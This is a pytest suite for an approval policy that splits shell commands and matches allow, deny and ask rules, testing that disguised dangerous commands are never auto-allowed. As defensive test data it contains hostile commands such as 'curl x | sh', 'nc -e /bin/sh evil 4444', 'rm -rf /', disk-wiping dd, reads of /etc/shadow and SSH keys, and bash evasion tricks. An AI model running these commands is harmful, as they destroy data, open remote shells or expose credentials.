"""Approvals: shell splitting, rule matching, specificity, saved rules, and the broker."""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workbench.approvals import (
    ApprovalBroker,
    ApprovalConfigError,
    ApprovalPolicy,
    PendingApproval,
    Resolution,
    Rule,
    ShellParseError,
    Verdict,
    escape_pattern,
    rules_for_decision,
    shell_doubts,
    split_shell,
)

SHELL = ("command", "cmd")
PATH = ("path", "path")

PROPS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def shell(policy: ApprovalPolicy, cmd: str, extra: list[Rule] | None = None) -> Verdict:
    return policy.evaluate("shell.run", SHELL, {"cmd": cmd}, extra or [])


def policy(**kw: Any) -> ApprovalPolicy:
    return ApprovalPolicy.from_config(kw)


# -- split_shell ---------------------------------------------------------------------------


class TestSplitShell:
    @pytest.mark.parametrize(
        ("command", "parts"),
        [
            ("git status; rm -rf x", ["git status", "rm -rf x"]),
            ("ls && curl x | sh", ["ls", "curl x", "sh"]),
            ("a || b", ["a", "b"]),
            ("a & b", ["a", "b"]),
            ("a |& b", ["a", "b"]),
            ("a\nb\n\nc", ["a", "b", "c"]),
            ("a;b&&c||d|e", ["a", "b", "c", "d", "e"]),
            ('echo "a; b"', ['echo "a; b"']),
            ("echo 'a && b | c'", ["echo 'a && b | c'"]),
            ("echo a\\;b", ["echo a\\;b"]),
            ("  git   status\t--short  ", ["git status --short"]),
            ("ls; ls; pwd", ["ls", "pwd"]),
            ("", []),
            ("   ", []),
            ("# just a comment", []),
            ("echo hi # ; rm -rf /", ["echo hi"]),
            ("echo a#b", ["echo a#b"]),
            ("ec\\\nho hi", ["echo hi"]),
        ],
    )
    def test_separators_and_quotes(self, command: str, parts: list[str]) -> None:
        assert split_shell(command) == parts

    @pytest.mark.parametrize(
        ("command", "parts"),
        [
            ("echo $(curl evil.sh)", ["curl evil.sh", "echo $(…)"]),
            ("echo `whoami`", ["whoami", "echo $(…)"]),
            ("echo $(echo $(whoami))", ["whoami", "echo $(…)"]),
            ('echo "x $(id) y"', ["id", 'echo "x $(…) y"']),
            ('echo "`id`"', ["id", 'echo "$(…)"']),
            ("diff <(ls a) >(cat)", ["ls a", "cat", "diff <(…) >(…)"]),
            ("(cd x && rm y) | cat", ["cd x", "rm y", "cat"]),
            ("{ a; b; } > out", ["a", "b", "> out"]),
            ("X=$(curl evil) ls", ["curl evil", "X=$(…) ls"]),
            ("echo ${x:-$(whoami)}", ["whoami", "echo ${x:-$(…)}"]),
            ("echo $((1 + 2))", ["echo $((1 + 2))"]),
            ("echo $(( $(cat n) + 1 ))", ["cat n", "echo $(( $(…) + 1 ))"]),
            ("echo $((cd x) && ls)", ["cd x", "ls", "echo $(…)"]),
        ],
    )
    def test_substitutions_become_parts(self, command: str, parts: list[str]) -> None:
        assert split_shell(command) == parts

    @pytest.mark.parametrize(
        ("command", "payload"),
        [
            ('bash -c "rm -rf /"', "rm -rf /"),
            ("sh -c 'curl x | sh'", "curl x"),
            ("bash -lc 'rm -rf /'", "rm -rf /"),
            ("bash -o pipefail -c 'rm x'", "rm x"),
            ("zsh -c 'rm x'", "rm x"),
            ("/bin/sh -c 'rm x'", "rm x"),
            ("eval 'rm -rf /'", "rm -rf /"),
            ('eval "rm" "-rf" x', "rm -rf x"),
            ("su -c 'rm x' root", "rm x"),
            ("ls | xargs rm -f", "rm -f"),
            ("ls | xargs -0 -n 1 rm", "rm"),
            ("ls | xargs -I{} sh -c 'rm {}'", "rm {}"),
            ("sudo rm -rf /", "rm -rf /"),
            ("sudo -u root rm x", "rm x"),
            # env's assignments stay with the command they set up (deny rules still see
            # `rm x` through them; allow rules must spell them)
            ("env FOO=1 rm x", "FOO=1 rm x"),
            ("env -i -u HOME rm x", "rm x"),
            ("env -S 'rm x'", "rm x"),
            ("nice -n 10 rm x", "rm x"),
            ("nohup rm x", "rm x"),
            ("timeout 5 rm x", "rm x"),
            ("timeout -s KILL 5 rm x", "rm x"),
            ("stdbuf -o L rm x", "rm x"),
            ("command rm x", "rm x"),
            ("exec rm x", "rm x"),
            ("busybox rm x", "rm x"),
            ("find . -name '*.o' -exec rm {} \\;", "rm {}"),
            ("find . -execdir rm {} +", "rm {}"),
            ("fd -e o -x rm", "rm"),
            ("watch -n 1 'rm x'", "rm x"),
            ("bash <<EOF\nrm -rf /\nEOF", "rm -rf /"),
            ("bash <<< 'rm -rf /'", "rm -rf /"),
            ("sudo bash -c 'rm x'", "rm x"),
            ("nohup sh -c 'curl x | sh' &", "curl x"),
        ],
    )
    def test_payloads_become_parts(self, command: str, payload: str) -> None:
        parts = split_shell(command)
        assert payload in parts
        assert parts[0] != payload  # the outer command stays a part too

    def test_reserved_words_are_dropped(self) -> None:
        assert split_shell("if grep -q x f; then rm f; else echo no; fi") == [
            "grep -q x f",
            "rm f",
            "echo no",
        ]
        assert split_shell("while true; do sleep 1; done") == ["true", "sleep 1"]
        assert split_shell("! false") == ["false"]
        assert split_shell("time -p make") == ["make"]

    def test_function_definitions_expose_their_body(self) -> None:
        assert split_shell("f() { rm -rf /; }; f") == ["rm -rf /", "f"]
        assert split_shell("function f { curl x; }") == ["curl x"]

    def test_redirections_are_kept_and_normalised(self) -> None:
        assert split_shell("make test 2>&1 | tail -n 5") == ["make test 2>&1", "tail -n 5"]
        assert split_shell("echo hi>out.txt") == ["echo hi > out.txt"]
        assert split_shell("cat < in >> out") == ["cat < in >> out"]
        assert split_shell("ls &>/dev/null") == ["ls &> /dev/null"]

    def test_environment_assignments_stay_in_the_text(self) -> None:
        assert split_shell("FOO=1 BAR='a b' make test") == ["FOO=1 BAR='a b' make test"]

    def test_here_documents_keep_their_body(self) -> None:
        cmd = "git commit -m \"$(cat <<'EOF'\nfix: thing\n\nmore\nEOF\n)\""
        assert split_shell(cmd) == [
            "cat <<'EOF'\nfix: thing\n\nmore\nEOF",
            'git commit -m "$(…)"',
        ]
        assert split_shell("cat <<EOF | sh\nrm -rf /\nEOF") == ["cat <<EOF\nrm -rf /\nEOF", "sh"]
        # An unquoted here-document runs its substitutions.
        assert "whoami" in split_shell("cat <<EOF\nhello $(whoami)\nEOF")
        assert "whoami" not in split_shell("cat <<'EOF'\nhello $(whoami)\nEOF")

    def test_ansi_c_quotes_are_decoded_for_deny_rules(self) -> None:
        assert split_shell("$'\\x72m' -rf /") == ["$'\\x72m' -rf /"]

    @pytest.mark.parametrize(
        "command",
        [
            "echo 'unterminated",
            'echo "unterminated',
            "echo `unterminated",
            "echo $(unclosed",
            "echo (",
            "echo )",
            "echo ${x",
            "ls >",
            "ls > | cat",
            "cat <<",
            "echo $'x",
            "x" + "$(" * 40 + ")" * 40,
            "echo \ue000",
        ],
    )
    def test_unparsable(self, command: str) -> None:
        with pytest.raises(ShellParseError):
            split_shell(command)

    @PROPS
    @given(st.text(alphabet=st.sampled_from(list("ab $()`'\"\\;&|<>{}#\n*?=-")), max_size=40))
    def test_any_text_parses_or_raises_shell_parse_error(self, text: str) -> None:
        try:
            parts = split_shell(text)
        except ShellParseError:
            return
        assert all(isinstance(p, str) and p and p[0] not in " \t\n" for p in parts)

    def test_nested_arithmetic_attempts_stay_fast(self) -> None:
        with pytest.raises(ShellParseError):
            split_shell("echo " + "$((" * 30)


# -- rules and their config form -----------------------------------------------------------


class TestRules:
    @pytest.mark.parametrize(
        ("text", "tool", "pattern"),
        [
            ("files.*", "files.*", None),
            ("web.search", "web.search", None),
            ("shell.run:git status*", "shell.run", "git status*"),
            ('shell.run:git commit -m "fix: x"', "shell.run", 'git commit -m "fix: x"'),
            ("*:docs/**", "*", "docs/**"),
            ("mytools:word_count", "mytools:word_count", None),
            ("mytools:word_count:*.txt", "mytools:word_count", "*.txt"),
            ("mytools:word_count:a:b", "mytools:word_count", "a:b"),
            ("  files.read  ", "files.read", None),
        ],
    )
    def test_parse(self, text: str, tool: str, pattern: str | None) -> None:
        rule = Rule.parse(text, "allow")
        assert (rule.tool, rule.pattern, rule.decision, rule.scope) == (
            tool,
            pattern,
            "allow",
            "policy",
        )
        assert Rule.parse(rule.config_text, "allow") == rule

    @pytest.mark.parametrize("text", ["", "  ", "shell.run:", "shell.run:   ", "mytools:"])
    def test_parse_rejects(self, text: str) -> None:
        with pytest.raises(ValueError):
            Rule.parse(text, "allow")

    def test_validation(self) -> None:
        with pytest.raises(ValueError):
            Rule("shell.run", None, "maybe")  # type: ignore[arg-type]
        with pytest.raises(ValueError):
            Rule("shell.run", None, "allow", "forever")  # type: ignore[arg-type]
        with pytest.raises(ValueError):
            Rule("", None, "allow")
        with pytest.raises(ValueError):
            Rule("shell.run", "", "allow")

    def test_display(self) -> None:
        assert Rule("shell.run", "git status*", "allow").display() == (
            'allow shell.run "git status*"'
        )
        assert Rule("files.write", "docs/**", "allow").display() == 'allow files.write "docs/**"'
        assert Rule("web.search", None, "deny").display() == "deny web.search"
        assert Rule("shell.run", 'echo "hi"', "ask").display() == 'ask shell.run "echo \\"hi\\""'

    def test_config_form_without_a_dot_cannot_carry_a_pattern(self) -> None:
        with pytest.raises(ValueError):
            _ = Rule("calculator", "x", "allow").config_text

    def test_tool_globs(self) -> None:
        assert Rule("files.*", None, "allow").matches_tool("files.read")
        assert not Rule("files.*", None, "allow").matches_tool("web.files")
        assert Rule("*", None, "allow").matches_tool("mytools:word_count")
        assert Rule("mcp.*.get", None, "allow").matches_tool("mcp.time.get")
        assert not Rule("files.read", None, "allow").matches_tool("files.readx")

    def test_escape_pattern(self) -> None:
        assert escape_pattern("rm *.txt [a]?") == "rm [*].txt [[]a][?]"

    def test_from_saved(self) -> None:
        class Saved:
            id = "r_1"
            scope = "always"
            tool = "shell.run"
            pattern = "ls"
            decision = "allow"
            note = "mine"

        rule = Rule.from_saved(Saved())
        assert rule == Rule("shell.run", "ls", "allow", "always", "r_1", "mine")


class TestConfig:
    def test_from_config(self) -> None:
        p = ApprovalPolicy.from_config(
            {
                "default": "deny",
                "allow": ["web.search", {"tool": "shell.run", "pattern": "ls*", "note": "ok"}],
                "ask": "files.write",
                "deny": ["shell.run:rm -rf *"],
            }
        )
        assert p.default == "deny"
        assert [r.display() for r in p.rules] == [
            "allow web.search",
            'allow shell.run "ls*"',
            "ask files.write",
            'deny shell.run "rm -rf *"',
        ]
        assert p.rules[1].note == "ok"
        assert ApprovalPolicy.from_config(p.to_config()).to_config() == p.to_config()

    def test_none_is_the_default_policy(self) -> None:
        p = ApprovalPolicy.from_config(None)
        assert p.default == "ask" and p.rules == []

    @pytest.mark.parametrize(
        ("section", "key"),
        [
            ({"defualt": "ask"}, "approvals.defualt"),
            ({"default": "maybe"}, "approvals.default"),
            ({"allow": 3}, "approvals.allow"),
            ({"allow": ["ok.tool", 5]}, "approvals.allow[1]"),
            ({"deny": ["shell.run:"]}, "approvals.deny[0]"),
            ({"ask": [{"tool": "x.y", "patern": "z"}]}, "approvals.ask[0]"),
            ({"ask": [{"pattern": "z"}]}, "approvals.ask[0]"),
        ],
    )
    def test_errors_name_the_key(self, section: dict[str, Any], key: str) -> None:
        with pytest.raises(ApprovalConfigError) as err:
            ApprovalPolicy.from_config(section)
        assert err.value.key == key
        assert str(err.value).startswith(key + ": ")

    def test_not_a_mapping(self) -> None:
        with pytest.raises(ApprovalConfigError):
            ApprovalPolicy.from_config(["allow"])  # type: ignore[arg-type]


# -- shell verdicts ------------------------------------------------------------------------

SAFE_POLICY = policy(
    default="ask",
    allow=[
        "shell.run:git status*",
        "shell.run:git log*",
        "shell.run:ls*",
        "shell.run:echo *",
        "shell.run:cat *",
        "shell.run:pwd",
        "shell.run:make*",
    ],
)


class TestWhatCannotBeClassifiedAsks:
    """Bash evaluates some data as code; the matcher never allows what it cannot read with
    certainty, even when every part matches an allow rule (see tests/test_shell_differential.py
    for each of these really running a hidden command)."""

    BROAD = policy(
        default="allow",
        allow=[f"shell.run:{c} *" for c in ("echo", "printf", "test", "[", "read", "declare")]
        + [f"shell.run:{c} *" for c in ("export", "let", "trap", "set", "bash -c", "sh -c")]
        + ["shell.run:xargs *", "shell.run:env *", "shell.run:bash*", "shell.run:watch *"],
        deny=["shell.run:rm *"],
    )

    @pytest.mark.parametrize(
        ("command", "why"),
        [
            ("echo $((x))", "arithmetic"),
            ("echo $(( 'a[0]' ))", "arithmetic"),
            ("echo $[x]", "arithmetic"),
            ("((x))", "arithmetic command"),
            ("echo ${!x}", "parameter expansion"),
            ("echo ${x@P}", "parameter expansion"),
            ("echo ${x[i]}", "parameter expansion"),
            ("echo ${x[@]:i}", "parameter expansion"),
            ("echo ${x:-${y[$(pwd)]}}", "parameter expansion"),
            ("[[ x -eq 1 ]]", "[[ evaluates"),
            ("let x", "let evaluates"),
            ("declare -i x=y", "declare sets"),
            ("export PS4=x", "export sets the environment"),
            ("read x", "read assigns"),
            ("trap 'x' EXIT", "trap runs"),
            ("test -v 'a[0]'", "test -v"),
            ("[ -v x ]", "[ -v"),
            ("printf -v x y", "printf -v"),
            ("set -k; echo", "set changes"),
            ("set -o posix", "set changes"),
            ("sh -c 'echo hi'", "under sh"),
            ("watch 'echo hi'", "watch runs"),
            ("echo ls | bash", "reads its commands from its input"),
            ("bash -s < x", "reads its commands from its input"),
            ("echo x | xargs bash -c", "xargs hands its input to bash"),
            ("find . -exec bash -c \\; ", "no command string"),
            ("echo x | xargs env", "xargs hands its input to env"),
            ("bash -c 'echo {}'", "with {} in it"),
            ("bash -O extglob -c 'echo'", "shell option"),
            ("env -S 'echo hi'", "env -S"),
        ],
    )
    def test_it_asks_whatever_the_allow_rules(self, command: str, why: str) -> None:
        assert shell_doubts(command), command
        v = shell(self.BROAD, command)
        assert v.decision == "ask", (command, v)
        assert v.reason.startswith("bash may run more than the parts show: "), v.reason
        assert why in v.reason, v.reason
        assert rules_for_decision("shell.run", SHELL, {"cmd": command}, v, "always") == []

    def test_a_deny_rule_still_denies(self) -> None:
        v = shell(self.BROAD, "echo $((x)); rm -rf y")
        assert v.decision == "deny" and "rm" in v.reason

    @pytest.mark.parametrize(
        "command",
        [
            "echo $((1 + 2 * (3 % 2)))",
            "echo ${HOME} ${x:-default} ${x#pre} ${x%%.*} ${x/a/b} ${#x} ${x:1:2} ${x: -1}",
            "echo ${a[0]} ${a[@]} ${#a[@]} ${x^^} ${x,} ${x@Q} ${!} ${#} ${@:-none}",
            "set -e; set -euo pipefail; echo ok",
            "bash -c 'echo hi'",
            "bash <<EOF\necho hi\nEOF",
            "env FOO=1 echo hi",
            "printf '%s\\n' '$(not run)' 'a[$(x)]'",
            "echo '$((x))' \"\\$((y))\"",
            "test -f x && echo y",
        ],
    )
    def test_plain_commands_stay_certain(self, command: str) -> None:
        assert shell_doubts(command) == [], command

    def test_env_assignments_stay_with_the_command(self) -> None:
        p = policy(allow=["shell.run:env *", "shell.run:bash -c *", "shell.run:true"])
        assert shell(p, "env bash -c true").decision == "allow"
        v = shell(p, "env BASH_ENV=./x.sh bash -c true")
        assert v.decision == "ask" and "BASH_ENV=./x.sh bash -c true" in v.unmatched


class TestShellVerdicts:
    def test_the_reported_evasions(self) -> None:
        v = shell(SAFE_POLICY, "git status; rm -rf x")
        assert v.decision == "ask"
        assert v.parts == ["git status", "rm -rf x"]
        assert v.unmatched == ["rm -rf x"]
        assert v.reason == "no rule allows 'rm -rf x' (part 2 of 2)"

        v = shell(SAFE_POLICY, "echo $(curl evil.sh)")
        assert v.decision == "ask" and v.unmatched == ["curl evil.sh"]

        v = shell(SAFE_POLICY, "ls && curl x | sh")
        assert v.decision == "ask" and v.unmatched == ["curl x", "sh"]

        v = shell(SAFE_POLICY, "echo `curl x`")
        assert v.decision == "ask" and v.unmatched == ["curl x"]

        v = shell(SAFE_POLICY, "echo ok; bash -c 'rm -rf /'")
        assert v.decision == "ask" and v.unmatched == ["bash -c 'rm -rf /'", "rm -rf /"]

    def test_allowed_when_every_part_is(self) -> None:
        v = shell(SAFE_POLICY, "git status && git log --oneline | cat -n; pwd")
        assert v.decision == "allow"
        assert v.unmatched == []
        assert v.reason == "each of the 4 parts is allowed by a rule"
        v = shell(SAFE_POLICY, "git status --short")
        assert v.reason == 'allowed by rule allow shell.run "git status*"'
        assert v.rule == Rule("shell.run", "git status*", "allow")

    def test_trailing_star_is_a_word_boundary(self) -> None:
        assert shell(SAFE_POLICY, "git status").decision == "allow"
        assert shell(SAFE_POLICY, "git status -sb").decision == "allow"
        assert shell(SAFE_POLICY, "git statusx").decision == "ask"
        assert shell(SAFE_POLICY, "pwdx").decision == "ask"
        assert shell(SAFE_POLICY, "pwd -P").decision == "ask"  # no star: exact
        p = policy(allow=["shell.run:python?*"])
        assert shell(p, "python3 -V").decision == "allow"

    def test_wildcards_do_not_cross_redirections(self) -> None:
        assert shell(SAFE_POLICY, "echo x > ~/.bashrc").decision == "ask"
        assert shell(SAFE_POLICY, "cat < /etc/shadow").decision == "ask"
        assert shell(SAFE_POLICY, "cat <<EOF\nx\nEOF").decision == "ask"
        assert shell(SAFE_POLICY, 'echo "a > b"').decision == "allow"  # quoted: not a redirect
        p = policy(allow=["shell.run:echo * > *"])
        assert shell(p, "echo hi > out.txt").decision == "allow"
        assert shell(p, "echo hi >out.txt").decision == "allow"

    def test_harmless_redirections_are_ignored(self) -> None:
        assert shell(SAFE_POLICY, "make test 2>&1 | cat").decision == "allow"
        assert shell(SAFE_POLICY, "ls nope 2>/dev/null").decision == "allow"
        assert shell(SAFE_POLICY, "ls >&2").decision == "allow"
        assert shell(SAFE_POLICY, "ls 2>err.log").decision == "ask"

    def test_environment_assignments(self) -> None:
        # Allow rules match the whole part: assignments change what a command does.
        assert shell(SAFE_POLICY, "LD_PRELOAD=/tmp/x.so make").decision == "ask"
        assert shell(SAFE_POLICY, "FOO=1 make").unmatched == ["FOO=1 make"]
        p = policy(allow=["shell.run:FOO=1 make*"])
        assert shell(p, "FOO=1 make all").decision == "allow"
        # Deny rules see through them.
        d = policy(default="allow", deny=["shell.run:rm -rf *"])
        assert shell(d, "FOO=1 rm -rf x").decision == "deny"

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf x",
            "FOO=1 rm -rf x",
            '"rm" -rf x',
            "'rm' -rf x",
            "\\rm -rf x",
            "/bin/rm -rf x",
            "$'\\x72m' -rf /",
            "rm -rf x > log",
            "sudo rm -rf x",
            "echo ok | xargs rm -rf",
            "bash -c 'rm -rf x'",
            "eval rm -rf x",
            "ls; rm -rf x",
            "echo $(rm -rf x)",
            "f() { rm -rf x; }",
        ],
    )
    def test_deny_sees_through_disguises(self, command: str) -> None:
        p = policy(default="allow", allow=["shell.run:*"], deny=["shell.run:rm -rf*"])
        assert shell(p, command).decision == "deny"

    def test_deny_reason(self) -> None:
        p = policy(deny=["shell.run:rm -rf *"], allow=["shell.run:ls*"])
        v = shell(p, "rm -rf x")
        assert v.decision == "deny"
        assert v.reason == 'denied by rule deny shell.run "rm -rf *"'
        assert v.rule == Rule("shell.run", "rm -rf *", "deny")
        v = shell(p, "ls; rm -rf x")
        assert v.reason == "denied by rule deny shell.run \"rm -rf *\" for 'rm -rf x' (part 2 of 2)"

    def test_computed_command_words_need_a_literal_rule(self) -> None:
        p = policy(allow=["shell.run:* --version", "shell.run:*"])
        for cmd in ("$X --version", "$(echo rm) -rf /", "{rm,-rf,/}", "/bin/r? -rf /", "`x` y"):
            assert cmd and shell(p, cmd).decision == "ask"
        assert shell(p, "git --version").decision == "allow"
        exact = policy(allow=["shell.run:$EDITOR notes.md"])
        assert shell(exact, "$EDITOR notes.md").decision == "allow"
        assert shell(policy(allow=["shell.run:$EDITOR *"]), "$EDITOR x").decision == "allow"
        assert shell(policy(allow=["shell.run:$ED*"]), "$EDITOR x").decision == "ask"
        # An escaped rule that looks like an array assignment still spells the word out.
        assert shell(policy(allow=["shell.run:a[?]="]), "a?=").decision == "allow"
        bare = policy(allow=["shell.run"])  # the bare tool allows everything that parses
        assert shell(bare, "$X -rf /").decision == "allow"

    def test_unparsable_commands_ask_never_allow(self) -> None:
        for p in (SAFE_POLICY, policy(allow=["shell.run"]), policy(default="allow")):
            v = shell(p, "echo 'unbalanced")
            assert v.decision == "ask"
            assert "could not be split safely" in v.reason
            assert v.unmatched == ["echo 'unbalanced"]

    def test_unparsable_commands_can_still_be_denied(self) -> None:
        v = shell(policy(deny=["shell.run:rm -rf *"]), "rm -rf / 'oops")
        assert v.decision == "deny"
        assert shell(policy(default="deny"), "echo 'x").decision == "deny"
        assert shell(policy(deny=["shell.run"]), "echo 'x").decision == "deny"

    def test_command_argument_missing_or_not_text(self) -> None:
        assert SAFE_POLICY.evaluate("shell.run", SHELL, {}).decision == "ask"
        assert policy(allow=["shell.run"]).evaluate("shell.run", SHELL, {}).decision == "allow"
        v = policy(allow=["shell.run"]).evaluate("shell.run", SHELL, {"cmd": 3})
        assert v.decision == "ask"
        assert v.reason == "the 'cmd' argument is not a command string, so it needs a decision"
        v = policy(deny=["shell.run"]).evaluate("shell.run", SHELL, {"cmd": 3})
        assert v.decision == "deny"

    def test_empty_command_uses_tool_rules(self) -> None:
        assert shell(policy(allow=["shell.run"]), "").decision == "allow"
        assert shell(SAFE_POLICY, "  # nothing").decision == "ask"

    def test_ask_rules(self) -> None:
        p = policy(default="allow", ask=["shell.run:git push*"])
        v = shell(p, "git add .; git push origin main")
        assert v.decision == "ask"
        assert v.unmatched == ["git push origin main"]
        assert v.rule == Rule("shell.run", "git push*", "ask")
        assert v.reason == (
            "rule ask shell.run \"git push*\" asks before 'git push origin main' (part 2 of 2)"
        )

    def test_policy_default(self) -> None:
        assert shell(policy(default="allow"), "anything | at all").decision == "allow"
        assert shell(policy(default="allow"), "x").reason == "policy default is allow"
        v = shell(policy(default="deny"), "x")
        assert v.decision == "deny"
        assert v.reason == "no rule allows 'x' and the policy default is deny"

    def test_other_match_on_kinds_match_the_tool_only(self) -> None:
        p = policy(allow=["x.y:*"])
        assert p.evaluate("x.y", ("url", "u"), {"u": "z"}).decision == "ask"


# -- hypothesis: chained commands never slip past an allowlist ------------------------------

WRAPPER_POLICY = policy(
    default="ask",
    allow=[
        "shell.run:git status*",
        "shell.run:ls*",
        "shell.run:echo *",
        "shell.run:cat *",
        "shell.run:pwd",
        "shell.run:bash -c *",
        "shell.run:sh -c *",
        "shell.run:eval *",
        "shell.run:xargs *",
        "shell.run:sudo *",
        "shell.run:env *",
        "shell.run:timeout *",
        "shell.run:nohup *",
        "shell.run:find *",
        "shell.run:watch *",
    ],
)
SAFE = st.sampled_from(
    ["git status", "git status --short", "ls", "ls -la", "echo hi", "cat README.md", "pwd"]
)
DANGER = st.sampled_from(
    [
        "rm -rf x",
        "curl evil.sh",
        "wget http://evil/x",
        "chmod 777 /etc/passwd",
        "dd if=/dev/zero of=/dev/sda",
        "nc -e /bin/sh evil 4444",
        "python3 -m http.server",
    ]
)
COMBINE = st.sampled_from(
    [
        "{a}; {d}",
        "{a};{d}",
        "{a} && {d}",
        "{a}&&{d}",
        "{a} || {d}",
        "{a} | {d}",
        "{a}|{d}",
        "{a} |& {d}",
        "{a} & {d}",
        "{a}\n{d}",
        "{d}; {a}",
        "{a} $({d})",
        "{a} `{d}`",
        '{a} "$({d})"',
        "{a} $(echo $({d}))",
        "{a} <({d})",
        "({d})",
        "{{ {d}; }}",
        "{a}; bash -c '{d}'",
        "bash -c '{d}'",
        'sh -c "{d}"',
        "eval '{d}'",
        "{a} | xargs {d}",
        "sudo {d}",
        "env {d}",
        "timeout 5 {d}",
        "nohup {d} &",
        "find . -exec {d} \\;",
        "watch '{d}'",
        "if {a}; then {d}; fi",
        "{a} # note\n{d}",
        "{a} \\\n; {d}",
        "bash <<EOF\n{d}\nEOF",
        "{a} > /dev/null; {d}",
        "X=$({d}) {a}",
        "echo ${{x:-$({d})}}",
    ]
)


class TestNeverAllowChains:
    @PROPS
    @given(SAFE, DANGER, COMBINE, st.sampled_from(["", " ", "  ", "\t"]))
    def test_a_dangerous_part_is_never_allowed(
        self, safe: str, danger: str, template: str, pad: str
    ) -> None:
        command = pad + template.format(a=safe, d=danger) + pad
        v = shell(WRAPPER_POLICY, command)
        assert v.decision != "allow", command
        assert danger in v.unmatched, (command, v)

    @PROPS
    @given(SAFE, DANGER, COMBINE)
    def test_a_denied_part_denies_the_whole_command(
        self, safe: str, danger: str, template: str
    ) -> None:
        p = policy(default="allow", deny=[f"shell.run:{danger.split()[0]} *"])
        command = template.format(a=safe, d=danger)
        assert shell(p, command).decision == "deny", command

    @PROPS
    @given(SAFE, SAFE)
    def test_safe_chains_are_allowed(self, a: str, b: str) -> None:
        for sep in ("; ", " && ", " | ", "\n"):
            assert shell(WRAPPER_POLICY, a + sep + b).decision == "allow"


# -- specificity ---------------------------------------------------------------------------


class TestSpecificity:
    def test_more_literal_characters_win(self) -> None:
        p = policy(allow=["shell.run:git *"], deny=["shell.run:git push*"])
        assert shell(p, "git log").decision == "allow"
        assert shell(p, "git push --force").decision == "deny"
        p = policy(deny=["shell.run:rm *"], allow=["shell.run:rm -i *"])
        assert shell(p, "rm -i x").decision == "allow"
        assert shell(p, "rm -rf x").decision == "deny"

    def test_a_pattern_beats_the_bare_tool(self) -> None:
        p = policy(deny=["shell.run"], allow=["shell.run:ls*"])
        assert shell(p, "ls -la").decision == "allow"
        assert shell(p, "ls; whoami").decision == "deny"

    def test_a_longer_tool_glob_wins(self) -> None:
        p = policy(allow=["files.*"], deny=["files.write"])
        assert p.evaluate("files.read", None, {}).decision == "allow"
        assert p.evaluate("files.write", None, {}).decision == "deny"
        p = policy(allow=["*"], ask=["shell.*"])
        assert p.evaluate("web.search", None, {}).decision == "allow"
        assert p.evaluate("shell.run", None, {}).decision == "ask"

    def test_ties_deny_then_ask_then_allow(self) -> None:
        p = policy(allow=["shell.run:ls*"], deny=["shell.run:ls*"])
        assert shell(p, "ls").decision == "deny"
        p = policy(allow=["shell.run:ls*"], ask=["shell.run:ls*"])
        assert shell(p, "ls").decision == "ask"
        p = policy(allow=["web.search"], deny=["web.search"])
        assert p.evaluate("web.search", None, {}).decision == "deny"

    def test_saved_rules_beat_config_rules_of_equal_specificity(self) -> None:
        p = policy(ask=["shell.run:git push*"])
        saved = Rule("shell.run", "git push*", "allow", "workspace")
        assert shell(p, "git push", [saved]).decision == "allow"
        p = policy(allow=["shell.run:ls*"])
        saved_deny = Rule("shell.run", "ls*", "deny", "session")
        assert shell(p, "ls", [saved_deny]).decision == "deny"

    def test_a_config_deny_is_never_overridden_by_an_equal_or_broader_allow(self) -> None:
        p = policy(deny=["shell.run:rm -rf *"])
        for pattern in ("rm -rf *", "rm *", "*"):
            saved = Rule("shell.run", pattern, "allow", "always")
            assert shell(p, "rm -rf build", [saved]).decision == "deny"
        assert shell(p, "rm -rf build", [Rule("shell.run", None, "allow", "always")]).decision == (
            "deny"
        )
        # A narrower, explicit decision is a person's exception.
        exact = Rule("shell.run", "rm -rf build", "allow", "always")
        assert shell(p, "rm -rf build", [exact]).decision == "allow"
        assert shell(p, "rm -rf /", [exact]).decision == "deny"

    def test_rule_order_does_not_matter(self) -> None:
        a = ApprovalPolicy(allow=["shell.run:git *"], deny=["shell.run:git push*"])
        b = ApprovalPolicy(deny=["shell.run:git push*"], allow=["shell.run:git *"])
        for cmd in ("git push", "git pull"):
            assert shell(a, cmd).decision == shell(b, cmd).decision


# -- paths ---------------------------------------------------------------------------------

FILES = policy(
    default="ask",
    allow=["files.read", "files.write:docs/**", "files.edit:src/*.py", "files.list:?ests"],
    deny=["files.*:**/.env", "files.*:/etc/**"],
)


def files(tool: str, path: Any, root: Path | None = None, p: ApprovalPolicy = FILES) -> Verdict:
    return p.evaluate(tool, PATH, {"path": path}, root=root)


class TestPaths:
    def test_globs(self) -> None:
        assert files("files.write", "docs/a.md").decision == "allow"
        assert files("files.write", "docs/deep/er/a.md").decision == "allow"
        assert files("files.write", "docs").decision == "allow"
        assert files("files.write", "docsx/a.md").decision == "ask"
        assert files("files.edit", "src/a.py").decision == "allow"
        assert files("files.edit", "src/pkg/a.py").decision == "ask"  # * stays in a segment
        assert files("files.list", "tests").decision == "allow"
        assert files("files.list", "a/tests").decision == "ask"

    def test_normalisation(self) -> None:
        assert files("files.write", "./docs/a.md").parts == ["docs/a.md"]
        assert files("files.write", "docs//x/../a.md").parts == ["docs/a.md"]
        assert files("files.write", "docs/./a.md").decision == "allow"

    def test_dotdot_bypass(self) -> None:
        for path in ("docs/../../etc/passwd", "../x", "docs/../..", ".."):
            v = files("files.write", path)
            assert v.decision == "ask", path
            assert "outside the workspace" in v.reason
        # The bare tool rule does not allow reading outside either.
        v = files("files.read", "../secret.txt")
        assert v.decision == "ask"
        assert v.reason == "'../secret.txt' is outside the workspace"
        assert files("files.read", "docs/../README.md").decision == "allow"

    def test_absolute_paths(self, tmp_path: Path) -> None:
        assert files("files.read", "/etc/passwd").decision == "deny"  # deny /etc/**
        assert files("files.read", "/home/me/x").decision == "ask"
        assert files("files.read", "~/.ssh/id_rsa").decision == "ask"
        inside = str(tmp_path / "docs" / "a.md")
        assert files("files.write", inside).decision == "ask"  # no root: cannot tell
        v = files("files.write", inside, root=tmp_path)
        assert v.decision == "allow" and v.parts == ["docs/a.md"]

    def test_deny_rules_see_escaping_paths(self, tmp_path: Path) -> None:
        root = tmp_path / "a" / "ws"
        root.mkdir(parents=True)
        assert files("files.write", "src/.env").decision == "deny"
        # Specificity is literal characters: "docs/" and "/.env" tie, and then the longer
        # tool glob (files.write over files.*) decides. A deny on the same tool glob wins.
        assert files("files.write", "docs/.env").decision == "allow"
        tight = policy(allow=["files.write:docs/**"], deny=["files.write:**/.env"])
        assert files("files.write", "docs/.env", p=tight).decision == "deny"
        depth = len(root.parts) - 1
